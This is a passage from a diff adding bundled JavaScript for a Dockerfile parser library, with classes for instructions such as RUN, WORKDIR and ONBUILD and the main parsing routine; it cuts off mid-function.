+                    if (util_1.Util.isInsideRange(variables[i].getRange().start, range)) {
+                        variables.splice(i, 1);
+                        i--;
+                    }
+                }
+            }
+        }
+        return variables;
+    }
+    getProperties() {
+        return super.getProperties();
+    }
+}
+exports.Label = Label;
+
+
+/***/ }),
+
+/***/ 5554:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Onbuild = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const parser_1 = __nccwpck_require__(7988);
+const instruction_1 = __nccwpck_require__(5279);
+class Onbuild extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    getTrigger() {
+        let trigger = this.getTriggerWord();
+        return trigger === null ? null : trigger.toUpperCase();
+    }
+    getTriggerWord() {
+        return this.getRangeContent(this.getTriggerRange());
+    }
+    getTriggerRange() {
+        let args = this.getArguments();
+        return args.length > 0 ? args[0].getRange() : null;
+    }
+    getTriggerInstruction() {
+        let triggerRange = this.getTriggerRange();
+        if (triggerRange === null) {
+            return null;
+        }
+        let args = this.getArguments();
+        return parser_1.Parser.createInstruction(this.document, this.dockerfile, this.escapeChar, vscode_languageserver_types_1.Range.create(args[0].getRange().start, this.getRange().end), this.getTriggerWord(), triggerRange);
+    }
+}
+exports.Onbuild = Onbuild;
+
+
+/***/ }),
+
+/***/ 7224:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Run = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Run extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+    }
+    /**
+     * Returns there here-documents that are defined in this RUN
+     * instruction.
+     *
+     * This API is experimental and subject to change.
+     */
+    getHeredocs() {
+        return super.getHeredocs();
+    }
+}
+exports.Run = Run;
+
+
+/***/ }),
+
+/***/ 7523:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Shell = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Shell extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.Shell = Shell;
+
+
+/***/ }),
+
+/***/ 4301:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Stopsignal = void 0;
+const instruction_1 = __nccwpck_require__(5279);
+class Stopsignal extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.Stopsignal = Stopsignal;
+
+
+/***/ }),
+
+/***/ 3998:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.User = void 0;
+const instruction_1 = __nccwpck_require__(5279);
+class User extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.User = User;
+
+
+/***/ }),
+
+/***/ 1347:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Volume = void 0;
+const jsonInstruction_1 = __nccwpck_require__(5305);
+class Volume extends jsonInstruction_1.JSONInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+}
+exports.Volume = Volume;
+
+
+/***/ }),
+
+/***/ 7529:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Workdir = void 0;
+const instruction_1 = __nccwpck_require__(5279);
+class Workdir extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    /**
+     * Returns the path that has been defined. Note that this path may
+     * be absolute or relative depending on what was written in the
+     * instruction.
+     *
+     * @return the working directory's path, or null if this
+     *         instruction has no arguments
+     */
+    getPath() {
+        return this.getArgumentsContent();
+    }
+    /**
+     * Returns the absolute path that this instruction resolves to. The
+     * function will inspect prior WORKDIR instructions in the current
+     * image or another build stage in the Dockerfile to try to
+     * determine this.
+     *
+     * @return the absolute path of the working directory, or null if
+     *         this instruction has no arguments, or undefined if it
+     *         cannot be determined because only relative paths could be
+     *         found
+     */
+    getAbsolutePath() {
+        const path = this.getPath();
+        if (path === null || path.startsWith("/")) {
+            return path;
+        }
+        const startLine = this.getRange().start.line;
+        const hierarchy = this.dockerfile.getStageHierarchy(startLine);
+        for (let i = hierarchy.length - 1; i >= 0; i--) {
+            const workdirs = hierarchy[i].getWORKDIRs();
+            for (let j = workdirs.length - 1; j >= 0; j--) {
+                if (workdirs[j].getRange().start.line < startLine) {
+                    const parent = workdirs[j].getAbsolutePath();
+                    if (parent === undefined || parent === null) {
+                        return undefined;
+                    }
+                    return parent.endsWith("/") ? parent + path : parent + "/" + path;
+                }
+            }
+        }
+        return undefined;
+    }
+}
+exports.Workdir = Workdir;
+
+
+/***/ }),
+
+/***/ 3702:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.JSONArgument = void 0;
+const argument_1 = __nccwpck_require__(5940);
+class JSONArgument extends argument_1.Argument {
+    constructor(value, range, jsonRange) {
+        super(value, range);
+        this.jsonRange = jsonRange;
+    }
+    getJSONRange() {
+        return this.jsonRange;
+    }
+    getJSONValue() {
+        let value = super.getValue();
+        value = value.substring(1, value.length - 1);
+        return value;
+    }
+}
+exports.JSONArgument = JSONArgument;
+
+
+/***/ }),
+
+/***/ 5305:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.JSONInstruction = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const argument_1 = __nccwpck_require__(5940);
+const jsonArgument_1 = __nccwpck_require__(3702);
+const modifiableInstruction_1 = __nccwpck_require__(2393);
+class JSONInstruction extends modifiableInstruction_1.ModifiableInstruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+        this.openingBracket = null;
+        this.closingBracket = null;
+        this.jsonStrings = [];
+        const argsContent = this.getRawArgumentsContent();
+        if (argsContent === null) {
+            return;
+        }
+        const args = this.getArguments();
+        if (args.length === 1 && args[0].getValue() === "[]") {
+            let argRange = args[0].getRange();
+            this.openingBracket = new argument_1.Argument("[", vscode_languageserver_types_1.Range.create(argRange.start.line, argRange.start.character, argRange.start.line, argRange.start.character + 1));
+            this.closingBracket = new argument_1.Argument("]", vscode_languageserver_types_1.Range.create(argRange.start.line, argRange.start.character + 1, argRange.end.line, argRange.end.character));
+            return;
+        }
+        else if (args.length === 2 && args[0].getValue() === '[' && args[1].getValue() === ']') {
+            this.openingBracket = args[0];
+            this.closingBracket = args[1];
+            return;
+        }
+        const argsOffset = document.offsetAt(this.getArgumentsRange().start);
+        let start = -1;
+        let last = "";
+        let quoted = false;
+        let escapedArg = "";
+        argsCheck: for (let i = 0; i < argsContent.length; i++) {
+            let char = argsContent.charAt(i);
+            switch (char) {
+                case '[':
+                    if (last === "") {
+                        this.openingBracket = new argument_1.Argument("[", vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + i), document.positionAt(argsOffset + i + 1)));
+                        last = '[';
+                    }
+                    else if (quoted) {
+                        escapedArg = escapedArg + char;
+                    }
+                    else {
+                        break argsCheck;
+                    }
+                    break;
+                case '"':
+                    if (last === '[' || last === ',') {
+                        start = i;
+                        quoted = true;
+                        last = '"';
+                        escapedArg = escapedArg + char;
+                        continue;
+                    }
+                    else if (last === '"') {
+                        if (quoted) {
+                            escapedArg = escapedArg + char;
+                            // quoted string done
+                            quoted = false;
+                            this.jsonStrings.push(new jsonArgument_1.JSONArgument(escapedArg, vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + start), document.positionAt(argsOffset + i + 1)), vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + start + 1), document.positionAt(argsOffset + i))));
+                            escapedArg = "";
+                        }
+                        else {
+                            // should be a , or a ]
+                            break argsCheck;
+                        }
+                    }
+                    else {
+                        break argsCheck;
+                    }
+                    break;
+                case ',':
+                    if (quoted) {
+                        escapedArg = escapedArg + char;
+                    }
+                    else {
+                        if (last === '"') {
+                            last = ',';
+                        }
+                        else {
+                            break argsCheck;
+                        }
+                    }
+                    break;
+                case ']':
+                    if (quoted) {
+                        escapedArg = escapedArg + char;
+                    }
+                    else if (last !== "") {
+                        this.closingBracket = new argument_1.Argument("]", vscode_languageserver_types_1.Range.create(document.positionAt(argsOffset + i), document.positionAt(argsOffset + i + 1)));
+                        break argsCheck;
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                    break;
+                case '\\':
+                    if (quoted) {
+                        switch (argsContent.charAt(i + 1)) {
+                            case '"':
+                            case '\\':
+                                escapedArg = escapedArg + argsContent.charAt(i + 1);
+                                i++;
+                                continue;
+                            case ' ':
+                            case '\t':
+                                escapeCheck: for (let j = i + 2; j < argsContent.length; j++) {
+                                    switch (argsContent.charAt(j)) {
+                                        case '\r':
+                                            // offset one more for \r\n
+                                            j++;
+                                        case '\n':
+                                            i = j;
+                                            continue argsCheck;
+                                        case ' ':
+                                        case '\t':
+                                            break;
+                                        default:
+                                            break escapeCheck;
+                                    }
+                                }
+                                break;
+                            case '\r':
+                                // offset one more for \r\n
+                                i++;
+                            default:
+                                i++;
+                                continue;
+                        }
+                    }
+                    else {
+                        escapeCheck: for (let j = i + 1; j < argsContent.length; j++) {
+                            switch (argsContent.charAt(j)) {
+                                case '\r':
+                                    // offset one more for \r\n
+                                    j++;
+                                case '\n':
+                                    i = j;
+                                    continue argsCheck;
+                                case ' ':
+                                case '\t':
+                                    break;
+                                default:
+                                    break escapeCheck;
+                            }
+                        }
+                    }
+                    break argsCheck;
+                default:
+                    if (!quoted) {
+                        break argsCheck;
+                    }
+                    escapedArg = escapedArg + char;
+                    break;
+            }
+        }
+    }
+    stopSearchingForFlags(_value) {
+        return true;
+    }
+    getOpeningBracket() {
+        return this.openingBracket;
+    }
+    getJSONStrings() {
+        return this.jsonStrings;
+    }
+    getClosingBracket() {
+        return this.closingBracket;
+    }
+}
+exports.JSONInstruction = JSONInstruction;
+
+
+/***/ }),
+
+/***/ 7005:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Line = void 0;
+class Line {
+    constructor(document, range) {
+        this.document = document;
+        this.range = range;
+    }
+    getRange() {
+        return this.range;
+    }
+    getTextContent() {
+        return this.document.getText().substring(this.document.offsetAt(this.range.start), this.document.offsetAt(this.range.end));
+    }
+    isAfter(line) {
+        return this.range.start.line > line.range.start.line;
+    }
+    isBefore(line) {
+        return this.range.start.line < line;
+    }
+}
+exports.Line = Line;
+
+
+/***/ }),
+
+/***/ 8390:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DockerfileParser = exports.DefaultVariables = exports.Directive = exports.Keyword = exports.Workdir = exports.Volume = exports.User = exports.Stopsignal = exports.Shell = exports.Run = exports.PropertyInstruction = exports.Onbuild = exports.ModifiableInstruction = exports.Label = exports.JSONInstruction = exports.Heredoc = exports.Healthcheck = exports.From = exports.Env = exports.Entrypoint = exports.Copy = exports.Cmd = exports.Arg = exports.Add = exports.Variable = exports.Property = exports.ParserDirective = exports.Line = exports.Instruction = exports.Flag = exports.Comment = exports.JSONArgument = exports.Argument = void 0;
+var argument_1 = __nccwpck_require__(5940);
+Object.defineProperty(exports, "Argument", ({ enumerable: true, get: function () { return argument_1.Argument; } }));
+var jsonArgument_1 = __nccwpck_require__(3702);
+Object.defineProperty(exports, "JSONArgument", ({ enumerable: true, get: function () { return jsonArgument_1.JSONArgument; } }));
+const comment_1 = __nccwpck_require__(4022);
+Object.defineProperty(exports, "Comment", ({ enumerable: true, get: function () { return comment_1.Comment; } }));
+const parser_1 = __nccwpck_require__(7988);
+var flag_1 = __nccwpck_require__(1077);
+Object.defineProperty(exports, "Flag", ({ enumerable: true, get: function () { return flag_1.Flag; } }));
+const instruction_1 = __nccwpck_require__(5279);
+Object.defineProperty(exports, "Instruction", ({ enumerable: true, get: function () { return instruction_1.Instruction; } }));
+var line_1 = __nccwpck_require__(7005);
+Object.defineProperty(exports, "Line", ({ enumerable: true, get: function () { return line_1.Line; } }));
+const parserDirective_1 = __nccwpck_require__(7499);
+Object.defineProperty(exports, "ParserDirective", ({ enumerable: true, get: function () { return parserDirective_1.ParserDirective; } }));
+var property_1 = __nccwpck_require__(9602);
+Object.defineProperty(exports, "Property", ({ enumerable: true, get: function () { return property_1.Property; } }));
+var variable_1 = __nccwpck_require__(3743);
+Object.defineProperty(exports, "Variable", ({ enumerable: true, get: function () { return variable_1.Variable; } }));
+var add_1 = __nccwpck_require__(9618);
+Object.defineProperty(exports, "Add", ({ enumerable: true, get: function () { return add_1.Add; } }));
+const arg_1 = __nccwpck_require__(4381);
+Object.defineProperty(exports, "Arg", ({ enumerable: true, get: function () { return arg_1.Arg; } }));
+const cmd_1 = __nccwpck_require__(5517);
+Object.defineProperty(exports, "Cmd", ({ enumerable: true, get: function () { return cmd_1.Cmd; } }));
+const copy_1 = __nccwpck_require__(444);
+Object.defineProperty(exports, "Copy", ({ enumerable: true, get: function () { return copy_1.Copy; } }));
+const entrypoint_1 = __nccwpck_require__(1835);
+Object.defineProperty(exports, "Entrypoint", ({ enumerable: true, get: function () { return entrypoint_1.Entrypoint; } }));
+const env_1 = __nccwpck_require__(1822);
+Object.defineProperty(exports, "Env", ({ enumerable: true, get: function () { return env_1.Env; } }));
+const from_1 = __nccwpck_require__(5377);
+Object.defineProperty(exports, "From", ({ enumerable: true, get: function () { return from_1.From; } }));
+const healthcheck_1 = __nccwpck_require__(1167);
+Object.defineProperty(exports, "Healthcheck", ({ enumerable: true, get: function () { return healthcheck_1.Healthcheck; } }));
+var heredoc_1 = __nccwpck_require__(7599);
+Object.defineProperty(exports, "Heredoc", ({ enumerable: true, get: function () { return heredoc_1.Heredoc; } }));
+var jsonInstruction_1 = __nccwpck_require__(5305);
+Object.defineProperty(exports, "JSONInstruction", ({ enumerable: true, get: function () { return jsonInstruction_1.JSONInstruction; } }));
+var label_1 = __nccwpck_require__(3871);
+Object.defineProperty(exports, "Label", ({ enumerable: true, get: function () { return label_1.Label; } }));
+var modifiableInstruction_1 = __nccwpck_require__(2393);
+Object.defineProperty(exports, "ModifiableInstruction", ({ enumerable: true, get: function () { return modifiableInstruction_1.ModifiableInstruction; } }));
+var onbuild_1 = __nccwpck_require__(5554);
+Object.defineProperty(exports, "Onbuild", ({ enumerable: true, get: function () { return onbuild_1.Onbuild; } }));
+var propertyInstruction_1 = __nccwpck_require__(4984);
+Object.defineProperty(exports, "PropertyInstruction", ({ enumerable: true, get: function () { return propertyInstruction_1.PropertyInstruction; } }));
+var run_1 = __nccwpck_require__(7224);
+Object.defineProperty(exports, "Run", ({ enumerable: true, get: function () { return run_1.Run; } }));
+var shell_1 = __nccwpck_require__(7523);
+Object.defineProperty(exports, "Shell", ({ enumerable: true, get: function () { return shell_1.Shell; } }));
+var stopsignal_1 = __nccwpck_require__(4301);
+Object.defineProperty(exports, "Stopsignal", ({ enumerable: true, get: function () { return stopsignal_1.Stopsignal; } }));
+var user_1 = __nccwpck_require__(3998);
+Object.defineProperty(exports, "User", ({ enumerable: true, get: function () { return user_1.User; } }));
+var volume_1 = __nccwpck_require__(1347);
+Object.defineProperty(exports, "Volume", ({ enumerable: true, get: function () { return volume_1.Volume; } }));
+const workdir_1 = __nccwpck_require__(7529);
+Object.defineProperty(exports, "Workdir", ({ enumerable: true, get: function () { return workdir_1.Workdir; } }));
+var Keyword;
+(function (Keyword) {
+    Keyword["ADD"] = "ADD";
+    Keyword["ARG"] = "ARG";
+    Keyword["CMD"] = "CMD";
+    Keyword["COPY"] = "COPY";
+    Keyword["ENTRYPOINT"] = "ENTRYPOINT";
+    Keyword["ENV"] = "ENV";
+    Keyword["EXPOSE"] = "EXPOSE";
+    Keyword["FROM"] = "FROM";
+    Keyword["HEALTHCHECK"] = "HEALTHCHECK";
+    Keyword["LABEL"] = "LABEL";
+    Keyword["MAINTAINER"] = "MAINTAINER";
+    Keyword["ONBUILD"] = "ONBUILD";
+    Keyword["RUN"] = "RUN";
+    Keyword["SHELL"] = "SHELL";
+    Keyword["STOPSIGNAL"] = "STOPSIGNAL";
+    Keyword["USER"] = "USER";
+    Keyword["VOLUME"] = "VOLUME";
+    Keyword["WORKDIR"] = "WORKDIR";
+})(Keyword || (exports.Keyword = Keyword = {}));
+var Directive;
+(function (Directive) {
+    Directive["escape"] = "escape";
+    Directive["syntax"] = "syntax";
+})(Directive || (exports.Directive = Directive = {}));
+exports.DefaultVariables = [
+    "ALL_PROXY", "all_proxy",
+    "FTP_PROXY", "ftp_proxy",
+    "HTTP_PROXY", "http_proxy",
+    "HTTPS_PROXY", "https_proxy",
+    "NO_PROXY", "no_proxy"
+];
+var DockerfileParser;
+(function (DockerfileParser) {
+    function parse(content) {
+        let parser = new parser_1.Parser();
+        return parser.parse(content);
+    }
+    DockerfileParser.parse = parse;
+})(DockerfileParser || (exports.DockerfileParser = DockerfileParser = {}));
+
+
+/***/ }),
+
+/***/ 2393:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ModifiableInstruction = void 0;
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const flag_1 = __nccwpck_require__(1077);
+const instruction_1 = __nccwpck_require__(5279);
+class ModifiableInstruction extends instruction_1.Instruction {
+    constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    getFlags() {
+        if (!this.flags) {
+            this.flags = [];
+            for (let arg of this.getArguments()) {
+                let value = arg.getValue();
+                if (this.stopSearchingForFlags(value)) {
+                    return this.flags;
+                }
+                else if (value.indexOf("--") === 0) {
+                    let range = arg.getRange();
+                    let rawValue = this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
+                    let nameIndex = value.indexOf('=');
+                    let index = rawValue.indexOf('=');
+                    let firstMatch = false;
+                    let secondMatch = false;
+                    let startIndex = -1;
+                    nameSearchLoop: for (let i = 0; i < rawValue.length; i++) {
+                        switch (rawValue.charAt(i)) {
+                            case '\\':
+                            case ' ':
+                            case '\t':
+                            case '\r':
+                            case '\n':
+                                break;
+                            case '-':
+                                if (secondMatch) {
+                                    startIndex = i;
+                                    break nameSearchLoop;
+                                }
+                                else if (firstMatch) {
+                                    secondMatch = true;
+                                }
+                                else {
+                                    firstMatch = true;
+                                }
+                                break;
+                            default:
+                                startIndex = i;
+                                break nameSearchLoop;
+                        }
+                    }
+                    let nameStart = this.document.positionAt(this.document.offsetAt(range.start) + startIndex);
+                    if (index === -1) {
+                        this.flags.push(new flag_1.Flag(this.document, range, value.substring(2), vscode_languageserver_types_1.Range.create(nameStart, range.end), null, null));
+                    }
+                    else if (index === value.length - 1) {
+                        let nameEnd = this.document.positionAt(this.document.offsetAt(range.start) + index);
+                        this.flags.push(new flag_1.Flag(this.document, range, value.substring(2, index), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), "", vscode_languageserver_types_1.Range.create(range.end, range.end)));
+                    }
+                    else {
+                        let nameEnd = this.document.positionAt(this.document.offsetAt(range.start) + index);
+                        this.flags.push(new flag_1.Flag(this.document, range, value.substring(2, nameIndex), vscode_languageserver_types_1.Range.create(nameStart, nameEnd), value.substring(nameIndex + 1), vscode_languageserver_types_1.Range.create(this.document.positionAt(this.document.offsetAt(range.start) + index + 1), range.end)));
+                    }
+                }
+            }
+        }
+        return this.flags;
+    }
+    getArguments() {
+        const args = super.getArguments();
+        const flags = this.getFlags();
+        if (flags.length === 0) {
+            return args;
+        }
+        for (let i = 0; i < flags.length; i++) {
+            args.shift();
+        }
+        return args;
+    }
+}
+exports.ModifiableInstruction = ModifiableInstruction;
+
+
+/***/ }),
+
+/***/ 7988:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+/* --------------------------------------------------------------------------------------------
+ * Copyright (c) Remy Suen. All rights reserved.
+ * Licensed under the MIT License. See License.txt in the project root for license information.
+ * ------------------------------------------------------------------------------------------ */
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Parser = void 0;
+const vscode_languageserver_textdocument_1 = __nccwpck_require__(3383);
+const vscode_languageserver_types_1 = __nccwpck_require__(4612);
+const comment_1 = __nccwpck_require__(4022);
+const parserDirective_1 = __nccwpck_require__(7499);
+const instruction_1 = __nccwpck_require__(5279);
+const add_1 = __nccwpck_require__(9618);
+const arg_1 = __nccwpck_require__(4381);
+const cmd_1 = __nccwpck_require__(5517);
+const copy_1 = __nccwpck_require__(444);
+const env_1 = __nccwpck_require__(1822);
+const entrypoint_1 = __nccwpck_require__(1835);
+const from_1 = __nccwpck_require__(5377);
+const healthcheck_1 = __nccwpck_require__(1167);
+const label_1 = __nccwpck_require__(3871);
+const onbuild_1 = __nccwpck_require__(5554);
+const run_1 = __nccwpck_require__(7224);
+const shell_1 = __nccwpck_require__(7523);
+const stopsignal_1 = __nccwpck_require__(4301);
+const workdir_1 = __nccwpck_require__(7529);
+const user_1 = __nccwpck_require__(3998);
+const volume_1 = __nccwpck_require__(1347);
+const dockerfile_1 = __nccwpck_require__(9933);
+const util_1 = __nccwpck_require__(7459);
+const main_1 = __nccwpck_require__(8390);
+class Parser {
+    constructor() {
+        this.escapeChar = null;
+    }
+    static createInstruction(document, dockerfile, escapeChar, lineRange, instruction, instructionRange) {
+        switch (instruction.toUpperCase()) {
+            case "ADD":
+                return new add_1.Add(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "ARG":
+                return new arg_1.Arg(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "CMD":
+                return new cmd_1.Cmd(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "COPY":
+                return new copy_1.Copy(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "ENTRYPOINT":
+                return new entrypoint_1.Entrypoint(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "ENV":
+                return new env_1.Env(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "FROM":
+                return new from_1.From(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "HEALTHCHECK":
+                return new healthcheck_1.Healthcheck(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "LABEL":
+                return new label_1.Label(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "ONBUILD":
+                return new onbuild_1.Onbuild(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "RUN":
+                return new run_1.Run(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "SHELL":
+                return new shell_1.Shell(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "STOPSIGNAL":
+                return new stopsignal_1.Stopsignal(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "WORKDIR":
+                return new workdir_1.Workdir(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "USER":
+                return new user_1.User(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+            case "VOLUME":
+                return new volume_1.Volume(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+        }
+        return new instruction_1.Instruction(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+    }
+    getParserDirectives(document, buffer) {
+        // reset the escape directive in between runs
+        const directives = [];
+        this.escapeChar = '';
+        const offset = util_1.Util.isUTF8BOM(buffer.substring(0, 1)) ? 1 : 0;
+        directiveCheck: for (let i = offset; i < buffer.length; i++) {
+            switch (buffer.charAt(i)) {
+                case ' ':
+                case '\t':
+                    break;
+                case '\r':
+                case '\n':
+                    // blank lines stop the parsing of directives immediately
+                    break directiveCheck;
+                case '#':
+                    let directiveStart = -1;
+                    let directiveEnd = -1;
+                    for (let j = i + 1; j < buffer.length; j++) {
+                        let char = buffer.charAt(j);
+                        switch (char) {
+                            case ' ':
+                            case '\t':
+                                if (directiveStart !== -1 && directiveEnd === -1) {
+                                    directiveEnd = j;
+                                }
+                                break;
+                            case '\r':
+                            case '\n':
+                                break directiveCheck;
+                            case '=':
+                                let valueStart = -1;
+                                let valueEnd = -1;
+                                if (directiveEnd === -1) {
+                                    directiveEnd = j;
+                                }
+                                // assume the line ends with the file
+                                let lineEnd = buffer.length;
+                                directiveValue: for (let k = j + 1; k < buffer.length; k++) {
+                                    char = buffer.charAt(k);
+                                    switch (char) {
+                                        case '\r':
+                                        case '\n':
+                                            if (valueStart !== -1 && valueEnd === -1) {
+                                                valueEnd = k;
+                                            }
+                                            // line break found, reset
+                                            lineEnd = k;
+                                            break directiveValue;
+                                        case '\t':
+                                        case ' ':
+                                            if (valueStart !== -1 && valueEnd === -1) {
+                                                valueEnd = k;
+                                            }
+                                            continue;
+                                        default:
+                                            if (valueStart === -1) {
+                                                valueStart = k;
+                                            }
+                                            break;
+                                    }
+                                }
+                                if (directiveStart === -1) {
+                                    // no directive, it's a regular comment
+                                    break directiveCheck;
+                                }
+                                if (valueStart === -1) {
+                                    // no non-whitespace characters found, highlight all the characters then
+                                    valueStart = j + 1;
+                                    valueEnd = lineEnd;
+                                }
+                                else if (valueEnd === -1) {
+                                    // reached EOF
+                                    valueEnd = buffer.length;
+                                }
+                                const lineRange = vscode_languageserver_types_1.Range.create(document.positionAt(i), document.positionAt(lineEnd));
+                                const nameRange = vscode_languageserver_types_1.Range.create(document.positionAt(directiveStart), document.positionAt(directiveEnd));
+                                const valueRange = vscode_languageserver_types_1.Range.create(document.positionAt(valueStart), document.positionAt(valueEnd));
+                                directives.push(new parserDirective_1.ParserDirective(document, lineRange, nameRange, valueRange));
+                                directiveStart = -1;
+                                if (buffer.charAt(valueEnd) === '\r') {
+                                    // skip over the \r
+                                    i = valueEnd + 1;
+                                }
+                                else {
+                                    i = valueEnd;
+                                }
+                                continue directiveCheck;
+                            default:
+                                if (directiveStart === -1) {
+                                    directiveStart = j;
+                                }
+                                break;
+                        }
+                    }
+                    break;
+                default:
+                    break directiveCheck;
+            }
+        }
+        return directives;
+    }
+    parse(buffer) {
+        this.document = vscode_languageserver_textdocument_1.TextDocument.create("", "", 0, buffer);
+        this.buffer = buffer;
+        let dockerfile = new dockerfile_1.Dockerfile(this.document);
+        let directives = this.getParserDirectives(this.document, this.buffer);
+        let offset = 0;
+        this.escapeChar = '\\';
+        if (directives.length > 0) {
+            dockerfile.setDirectives(directives);
+            this.escapeChar = dockerfile.getEscapeCharacter();
+            // start parsing after the directives
+            offset = this.document.offsetAt(vscode_languageserver_types_1.Position.create(directives.length, 0));
+        }
+        else if (util_1.Util.isUTF8BOM(buffer.substring(0, 1))) {
+            offset = 1;
+        }
+        for (let i = offset; i < this.buffer.length; i++) {
+            const char = this.buffer.charAt(i);
+            switch (char) {
+                case ' ':
+                case '\t':
+                case '\r':
+                case '\n':
+                    break;
+                case '#':
+                    i = this.processComment(dockerfile, i);
+                    break;
+                default:
+                    i = this.processInstruction(dockerfile, char, i);
+                    break;
+            }
+        }
+        dockerfile.organizeComments();
+        return dockerfile;
+    }
+    processInstruction(dockerfile, char, start) {
+        let instruction = char;
+        let instructionEnd = -1;
+        let escapedInstruction = false;
+        instructionCheck: for (let i = start + 1; i < this.buffer.length; i++) {
+            char = this.buffer.charAt(i);
+            switch (char) {
+                case this.escapeChar:
+                    escapedInstruction = true;
+                    char = this.buffer.charAt(i + 1);
+                    if (char === '\r' || char === '\n') {
+                        if (instructionEnd === -1) {
+                            instructionEnd = i;
+                        }
+                        i++;
+                    }
+                    else if (char === ' ' || char === '\t') {
+                        for (let j = i + 2; j < this.buffer.length; j++) {
+                            switch (this.buffer.charAt(j)) {
+                                case ' ':
+                                case '\t':
+                                    break;
+                                case '\r':
+                                case '\n':
+                                    i = j;
+                                    continue instructionCheck;
+                                default:
+                                    // found an argument, mark end of instruction
+                                    instructionEnd = i + 1;
+                                    instruction = instruction + this.escapeChar;
+                                    i = j - 2;
+                                    continue instructionCheck;
+                            }
+                        }
+                        // reached EOF
+                        instructionEnd = i + 1;
+                        instruction = instruction + this.escapeChar;
+                        break instructionCheck;
+                    }
+                    else {
+                        instructionEnd = i + 1;
+                        instruction = instruction + this.escapeChar;
+                        // reset and consider it as one contiguous word
+                        escapedInstruction = false;
+                    }
+                    break;
+                case ' ':
+                case '\t':
+                    if (escapedInstruction) {
+                        // on an escaped newline, need to search for non-whitespace
+                        escapeCheck: for (let j = i + 1; j < this.buffer.length; j++) {
+                            switch (this.buffer.charAt(j)) {
+                                case ' ':
+                                case '\t':
+                                    break;
+                                case '\r':
+                                case '\n':
+                                    i = j;
+                                    continue instructionCheck;
+                                default:
